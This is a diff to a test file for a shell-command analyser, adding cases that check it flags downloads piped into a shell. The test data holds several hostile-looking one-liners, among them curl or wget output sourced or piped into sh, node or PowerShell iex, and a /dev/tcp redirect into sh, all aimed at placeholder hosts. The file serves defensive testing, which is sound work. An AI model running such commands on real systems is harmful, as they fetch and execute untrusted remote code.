@@ -55,6 +55,11 @@ describe("ShellSession", () => {
     ["through wrappers", "sudo env A=1 nohup curl https://e.example | xargs sh -c"],
     ["through a network device", "sh < /dev/tcp/192.0.2.1/4444"],
     ["through an interpreter", "curl https://e.example | node"],
+    [
+      "by whichever program there is",
+      'G=$(command -v curl || command -v wget); "$G" -qO- https://e.example > a; . a',
+    ],
+    ["by a program that is looked up", "$(which curl) https://e.example | sh"],
     ["through PowerShell", 'powershell -c "iex (iwr https://e.example)"'],
   ])("follows a download %s", (_, text) => {
     // A line that two shells would understand is told twice.
@@ -66,6 +71,10 @@ describe("ShellSession", () => {
     ["a text that is only printed", "curl https://e.example | cat"],
     ["a script of the package", "sh install.sh < /dev/null"],
     ["a command that asks where another is", "command -v curl | sh"],
+    [
+      "a program that is looked up and fetches nothing that runs",
+      'G=$(command -v curl); "$G" -o data.json https://e.example',
+    ],
   ])("does not take %s for code from elsewhere", (_, text) => {
     expect(told(acts(text), "remote-code")).toEqual([]);
   });
